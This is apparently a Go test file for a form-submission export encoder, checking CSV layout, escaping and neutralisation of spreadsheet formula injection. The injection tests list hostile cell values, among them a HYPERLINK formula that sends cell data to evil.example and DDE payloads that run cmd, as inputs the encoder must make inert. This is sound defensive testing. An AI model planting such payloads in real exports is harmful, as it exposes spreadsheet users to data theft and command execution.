package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"
)

var at = time.Date(2026, 11, 27, 15, 4, 5, 999, time.FixedZone("CET", 3600))

// readCSV reads an export back as a spreadsheet program or a script would:
// the BOM stripped, then encoding/csv, every record as wide as the header.
func readCSV(t testing.TB, raw []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(raw, []byte(bom)) {
		t.Fatalf("no byte order mark: %q", raw)
	}
	r := csv.NewReader(bytes.NewReader(raw[len(bom):]))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%q", err, raw)
	}
	return records
}

func encodeCSV(t testing.TB, names []string, rows ...Row) []byte {
	t.Helper()
	var out bytes.Buffer
	e, err := NewCSV(&out, names)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := e.Encode(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.Flush(); err != nil {
		t.Fatal(err)
	}
	if e.Rows() != len(rows) {
		t.Fatalf("Rows() = %d, want %d", e.Rows(), len(rows))
	}
	return out.Bytes()
}

func one(name string, values ...string) Field { return Field{Name: name, Values: values} }

func TestACSVStartsWithTheBOMAndABareHeaderAndEndsLinesWithCRLF(t *testing.T) {
	raw := encodeCSV(t, []string{"name", "message"},
		Row{SubmittedAt: at, SubmissionID: "0b9d2c1e-8a8f-4c0e-9d7a-1f2e3d4c5b6a", RequestID: "req-1",
			Fields: []Field{one("name", "Ada"), one("message", "Hello")}})
	want := bom + "submittedAt,submissionId,requestId,name,message\r\n" +
		"2026-11-27T14:04:05Z,0b9d2c1e-8a8f-4c0e-9d7a-1f2e3d4c5b6a,req-1,Ada,Hello\r\n"
	if string(raw) != want {
		t.Fatalf("got\n%q\nwant\n%q", raw, want)
	}
}

func TestACSVWithNoRowsIsItsHeader(t *testing.T) {
	records := readCSV(t, encodeCSV(t, nil))
	if len(records) != 1 || strings.Join(records[0], ",") != "submittedAt,submissionId,requestId" {
		t.Fatalf("got %q", records)
	}
}

// Each value reads back as it was, one cell per column, whatever it holds:
// separators, quotes and line breaks stay inside their quoted cell.
func TestCSVCellsReadBackAsTheyWere(t *testing.T) {
	cases := map[string]struct{ value, want string }{
		"comma":            {"Smith, Ada", "Smith, Ada"},
		"quotes":           {`She said "hi"`, `She said "hi"`},
		"only a quote":     {`"`, `"`},
		"line feed":        {"line one\nline two", "line one\nline two"},
		"CRLF":             {"line one\r\nline two", "line one\nline two"},
		"semicolon":        {"a;b", "a;b"},
		"tab inside":       {"a\tb", "a\tb"},
		"non-ASCII":        {"Zoë 東京 🚀", "Zoë 東京 🚀"},
		"empty":            {"", ""},
		"spaces":           {"  padded  ", "  padded  "},
		"invalid UTF-8":    {"a\xffb", "a\uFFFDb"},
		"single quote":     {"'quoted'", "'quoted'"},
		"number":           {"42", "42"},
		"minus inside":     {"a-b", "a-b"},
		"equals inside":    {"a=b", "a=b"},
		"trailing newline": {"end\n", "end\n"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			records := readCSV(t, encodeCSV(t, []string{"f", "after"},
				Row{SubmittedAt: at, SubmissionID: "s", RequestID: "r", Fields: []Field{one("f", c.value), one("after", "x")}}))
			if len(records) != 2 || len(records[1]) != 5 {
				t.Fatalf("want a header and a row of 5 cells, got %q", records)
			}
			if records[1][3] != c.want || records[1][4] != "x" {
				t.Fatalf("got %q, want %q then x", records[1][3:], c.want)
			}
		})
	}
}

// Every cell a spreadsheet program could take for a formula starts with a
// single quote, header cells (field names come from submitters) included.
func TestCSVInjectionIsMadeInert(t *testing.T) {
	cases := map[string]struct{ value, want string }{
		"equals":                  {"=1+1", "'=1+1"},
		"hyperlink":               {`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		"DDE":                     {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		"plus":                    {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		"minus":                   {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		"at":                      {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		"tab":                     {"\t=1+1", "'\t=1+1"},
		"carriage return":         {"\r=1+1", "'\r=1+1"},
		"a lone tab":              {"\t", "'\t"},
		"NUL":                     {"\x00=1+1", "'\x00=1+1"},
		"full-width equals":       {"＝1+1", "'＝1+1"},
		"full-width plus":         {"＋1", "'＋1"},
		"full-width minus":        {"－1", "'－1"},
		"full-width at":           {"＠SUM(A1)", "'＠SUM(A1)"},
		"leading spaces":          {"   =1+1", "'   =1+1"},
		"leading line feed":       {"\n=1+1", "'\n=1+1"},
		"no-break space":          {"\u00a0=1+1", "'\u00a0=1+1"},
		"ideographic space":       {"\u3000＝1+1", "'\u3000＝1+1"},
		"negative number":         {"-5", "'-5"},
		"phone number":            {"+49 30 1234", "'+49 30 1234"},
		"space then text is kept": {"  hello", "  hello"},
		"email is kept":           {"ada@example.com", "ada@example.com"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			records := readCSV(t, encodeCSV(t, []string{"f"},
				Row{SubmittedAt: at, SubmissionID: "s", RequestID: "r", Fields: []Field{one("f", c.value)}}))
			if got := records[1][3]; got != c.want {
				t.Fatalf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestCSVHeaderCellsAreMadeInert(t *testing.T) {
	name := `=HYPERLINK("http://evil.example","Click")`
	records := readCSV(t, encodeCSV(t, []string{name, "-x", "@y", "ok"},
		Row{SubmittedAt: at, SubmissionID: "s", RequestID: "r", Fields: []Field{one(name, "v")}}))
	want := []string{"submittedAt", "submissionId", "requestId", "'" + name, "'-x", "'@y", "ok"}
	if strings.Join(records[0], "|") != strings.Join(want, "|") {
		t.Fatalf("header %q, want %q", records[0], want)
	}
	if records[1][3] != "v" {
		t.Fatalf("the field's value is under its column: %q", records[1])
	}
}

// A request id can come from the client (X-Request-Id): the fixed columns
// are cells like any other.
func TestCSVFixedCellsAreMadeInertToo(t *testing.T) {
	records := readCSV(t, encodeCSV(t, nil, Row{SubmittedAt: at, SubmissionID: "s", RequestID: "=1+1"}))
	if records[1][2] != "'=1+1" {
		t.Fatalf("got %q", records[1])
	}
}

// Several values share a cell a line each; only the cell's start decides
// whether it is made inert: a spreadsheet reads the cell as a whole, and a
// line break inside a quoted cell starts no cell.
func TestCSVMultiValuedFields(t *testing.T) {
	cases := map[string]struct {
		values []string
		want   string
	}{
		"files":                  {[]string{"cv.pdf", "photo.jpg"}, "cv.pdf\nphoto.jpg"},
		"formula in a later one": {[]string{"cv.pdf", "=1+1"}, "cv.pdf\n=1+1"},
		"formula first":          {[]string{"=1+1", "cv.pdf"}, "'=1+1\ncv.pdf"},
		"formula after an empty": {[]string{"", "=1+1"}, "'\n=1+1"},
		"none":                   {[]string{}, ""},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			records := readCSV(t, encodeCSV(t, []string{"files"},
				Row{SubmittedAt: at, SubmissionID: "s", RequestID: "r", Fields: []Field{{Name: "files", Values: c.values}}}))
			if records[1][3] != c.want {
				t.Fatalf("got %q, want %q", records[1][3], c.want)
			}
		})
	}
}

func TestCSVMissingFieldsAreEmptyCellsInColumnOrder(t *testing.T) {
	records := readCSV(t, encodeCSV(t, []string{"a", "b", "c"},
		Row{SubmittedAt: at, SubmissionID: "s1", RequestID: "r1", Fields: []Field{one("c", "3"), one("a", "1")}},
		Row{SubmittedAt: at, SubmissionID: "s2", RequestID: "r2"},
	))
	if got := strings.Join(records[1][3:], "|"); got != "1||3" {
		t.Fatalf("row 1: %q", got)
	}
	if got := strings.Join(records[2][3:], "|"); got != "||" {
		t.Fatalf("row 2: %q", got)
	}
}

func TestColumnsNamedLikeAnotherGetANumber(t *testing.T) {
	labels, err := Labels([]string{"submittedAt", "requestId", "x", "x (2)"})
	if err != nil {
		t.Fatal(err)
	}
	want := "submittedAt|submissionId|requestId|submittedAt (2)|requestId (2)|x|x (2)"
	if strings.Join(labels, "|") != want {
		t.Fatalf("got %q", labels)
	}
	// Names differing only in invalid bytes read the same once those are
	// replaced, so they are told apart after it.
	labels, _ = Labels([]string{"\xbe", "\xbf"})
	if strings.Join(labels[3:], "|") != "\uFFFD|\uFFFD (2)" {
		t.Fatalf("got %q", labels[3:])
	}
	if _, err := Labels([]string{"a", "b", "a"}); !errors.Is(err, ErrDuplicateColumn) {
		t.Fatalf("a name listed twice: %v", err)
	}
}

func TestARowWithAFieldThatIsNoColumnIsRefusedAndNotWritten(t *testing.T) {
	for _, f := range []Format{CSV, NDJSON} {
		t.Run(string(f), func(t *testing.T) {
			var out bytes.Buffer
			e, err := New(&out, f, []string{"a"})
			if err != nil {
				t.Fatal(err)
			}
			if err := e.Encode(Row{SubmissionID: "s", Fields: []Field{one("a", "1"), one("b", "2")}}); !errors.Is(err, ErrUnknownField) {
				t.Fatalf("want ErrUnknownField, got %v", err)
			}
			if err := e.Encode(Row{SubmissionID: "s", Fields: []Field{one("a", "1"), one("a", "2")}}); !errors.Is(err, ErrDuplicateField) {
				t.Fatalf("want ErrDuplicateField, got %v", err)
			}
			if err := e.Encode(Row{SubmissionID: "ok", Fields: []Field{one("a", "1")}}); err != nil {
				t.Fatal(err)
			}
			_ = e.Flush()
			if e.Rows() != 1 || strings.Count(out.String(), "\n") != map[Format]int{CSV: 2, NDJSON: 1}[f] {
				t.Fatalf("only the good row is written: %d rows, %q", e.Rows(), out.String())
			}
		})
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("connection reset") }

func TestAWriteErrorStopsTheExport(t *testing.T) {
	for _, f := range []Format{CSV, NDJSON} {
		e, err := New(failingWriter{}, f, nil)
		if err != nil {
			t.Fatal(err)
		}
		for range 2000 {
			if err = e.Encode(Row{SubmissionID: strings.Repeat("s", 100)}); err != nil {
				break
			}
		}
		if err == nil {
			err = e.Flush()
		}
		if err == nil || e.Flush() == nil || e.Encode(Row{}) == nil {
			t.Fatalf("%s: the write error is returned, and again after: %v", f, err)
		}
	}
}
